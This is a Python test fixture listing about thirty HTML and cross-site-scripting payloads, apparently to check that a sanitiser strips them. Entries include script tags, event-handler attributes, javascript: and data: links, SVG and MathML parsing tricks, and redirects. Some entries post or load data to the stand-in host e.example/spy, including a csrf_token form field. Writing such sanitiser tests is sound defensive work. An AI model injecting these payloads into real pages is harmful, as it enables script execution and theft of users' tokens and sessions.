"""What others put where words belong: T56. Each would set ``window.ran`` or ask a stranger."""

RUN = "window.ran=1"
STRANGER = "https://e.example/spy"
MARK = "Texte qui reste"  # beside each of them, and still there afterwards

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script from elsewhere": f'<script src="{STRANGER}.js"></script>',
    "script left open": f"<script>{RUN}//",
    "script in halves": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image": f'<img src="{STRANGER}.png" onerror="{RUN}">',
    "image of nothing": f"<img src=x onerror={RUN}>",
    "image with sources": f'<picture><source srcset="{STRANGER}.webp"><img srcset="{STRANGER} 2x">',
    "handler": f'<p onmouseover="{RUN}" onfocus="{RUN}" tabindex=0 autofocus>x</p>',
    "details": f'<details open ontoggle="{RUN}">x</details>',
    "link": f'<a href="javascript:{RUN}">x</a>',
    "link written oddly": f'<a href="jav&#x09;ascript:{RUN}">x</a><a href=" javascript:1">x</a>',
    "link to data": '<a href="data:text/html,<script>parent.ran=1</script>">x</a>',
    "frame": f'<iframe src="{STRANGER}" srcdoc="<script>parent.ran=1</script>"></iframe>',
    "object": f'<object data="{STRANGER}"></object><embed src="{STRANGER}">',
    "style": f'<style>@import "{STRANGER}.css"; body{{display:none}}</style>',
    "style of an element": f'<p style="background:url({STRANGER}.png);position:fixed">x</p>',
    "sheet": f'<link rel=stylesheet href="{STRANGER}.css">',
    "drawing": f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:1"/></svg>',
    "formula": f'<math><mtext><mglyph><style><img src=x onerror="{RUN}"></style></mtext></math>',
    "form": f'<form action="{STRANGER}"><input name=csrf_token><button>x</button></form>',
    "own form": f'<input form="logout" formaction="{STRANGER}">',
    "base": f'<base href="{STRANGER}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={STRANGER}">',
    "media": f'<video src="{STRANGER}.mp4" autoplay onloadstart="{RUN}"><audio src="{STRANGER}">',
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "raw text": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "text area": f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    "template": f"<template><script>{RUN}</script></template>",
    "names of ours": '<p id="main" class="page-form" name="csrf_token">x</p>',
    "end of the page": f"</p></li></ol></main></body></html><script>{RUN}</script>",
    "attribute left open": f'<img title="><script>{RUN}</script>',
    "entity": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "turned text": "\u202e<b>x</b>\u2066\ufeff",
}
